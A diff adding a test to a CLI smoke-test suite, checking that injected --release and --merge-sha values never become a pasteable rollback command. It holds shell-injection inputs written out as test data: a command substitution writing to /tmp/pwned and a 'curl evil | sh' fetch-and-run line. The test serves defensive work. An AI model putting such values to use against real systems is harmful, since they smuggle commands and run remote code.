@@ -73,6 +73,18 @@ describe('seal smoke', () => {
     expect(run.stderr).toContain('    git revert -m 1 abc123');
   });
 
+  it('a hostile --release and --merge-sha never become a command to paste: none is printed, and the warning says why', async () => {
+    const hostile = writeConfig('hostile-rollback.yaml', { apps: { studio: { production_url: prod.url, rollback: 'git revert -m 1 {merge_sha} && deploy --to {version}', checks: [{ name: 'devops hidden', http: '/devops', expect: { status: 404 } }] } } });
+    const run = await runCli(['smoke', 'studio', '--config', hostile, '--json', '--release', 'v1$(id>/tmp/pwned)', '--merge-sha', 'abc;curl${IFS}evil|sh'], { env });
+    expect(run.code).toBe(0);
+    const result = JSON.parse(run.stdout) as { verdict: string; rollback: string | null; warnings: string[] };
+    expect(result.verdict).toBe('red');
+    expect(result.rollback).toBeNull();
+    expect(result.warnings).toContainEqual(expect.stringContaining('values a shell would not run or split: {merge_sha} is "abc;curl${IFS}evil|sh", {version} is "v1$(id>/tmp/pwned)"'));
+    expect(run.stderr).toContain('No rollback command could be rendered');
+    expect(run.stderr).not.toMatch(/^ {4}git revert/m);
+  });
+
   it('never lets a secret from ${VAR} reach stdout, stderr or the JUnit file', async () => {
     const junit = join(dir, 'secret-junit.xml');
     const run = await runCli(['smoke', 'studio', '--config', redConfig, '--json', '--junit', junit], { env });
